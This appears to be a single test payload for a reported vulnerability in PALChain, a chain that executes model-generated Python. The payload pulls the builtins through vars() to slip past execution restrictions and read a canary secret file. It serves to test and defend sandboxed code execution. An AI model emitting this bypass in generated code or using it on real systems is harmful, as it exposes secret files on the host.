# source: PALChain CVE-2025-61423
# effect: secret

builtin = vars()["__builtins__"]
print(vars(builtin)["open"]("/tmp/canary/secret").read())
